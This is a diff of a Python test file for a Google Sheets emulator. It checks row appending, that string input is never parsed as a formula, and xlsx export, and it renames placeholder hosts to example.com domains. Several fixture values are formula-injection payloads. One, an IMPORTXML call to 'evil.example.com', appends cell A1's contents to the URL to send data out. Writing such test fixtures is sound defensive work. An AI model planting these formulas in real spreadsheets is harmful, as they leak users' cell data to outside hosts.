@@ -336,13 +336,13 @@ def test_append_rows_goes_after_the_table(
 ) -> None:
     ws = sh.add_worksheet("log", rows=3, cols=3)
     ws.update([["日時", "内容"], ["t1", "a"]], "A1")
-    result = ws.append_rows([["t2", '=IMPORTXML("http://x","//a")'], ["t3", "c"]])
+    result = ws.append_rows([["t2", '=IMPORTXML("http://x.example.com","//a")'], ["t3", "c"]])
     assert result["updates"]["updatedRange"] == "log!A3:B4"
     assert result["tableRange"] == "log!A1:B2"
     assert emu.get_values(sid, "log") == [
         ["日時", "内容"],
         ["t1", "a"],
-        ["t2", '=IMPORTXML("http://x","//a")'],
+        ["t2", '=IMPORTXML("http://x.example.com","//a")'],
         ["t3", "c"],
     ]
     assert emu.get_values(sid, "log", render="FORMULA")[2][1].startswith("=IMPORTXML")
@@ -455,7 +455,7 @@ def test_freeze_resize_and_hide_through_gspread(
 def test_update_cells_string_value_is_never_parsed(
     emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet
 ) -> None:
-    evil = '=IMPORTXML("https://evil.example/?"&A1,"//x")'
+    evil = '=IMPORTXML("https://evil.example.com/?"&A1,"//x")'
     batch(
         sh,
         {
@@ -1222,7 +1222,11 @@ def test_export_xlsx(
 ) -> None:
     ws = sh.worksheet(MASTER)
     ws.update(
-        [["商品コード", "商品名", "在庫数"], ["00123", '=IMPORTXML("http://evil","//a")', 5]], "A1"
+        [
+            ["商品コード", "商品名", "在庫数"],
+            ["00123", '=IMPORTXML("http://evil.example.com","//a")', 5],
+        ],
+        "A1",
     )
     ws.update([["=C2*2"]], "D2", raw=False)
     ws.format("A1:C1", {"textFormat": {"bold": True}})
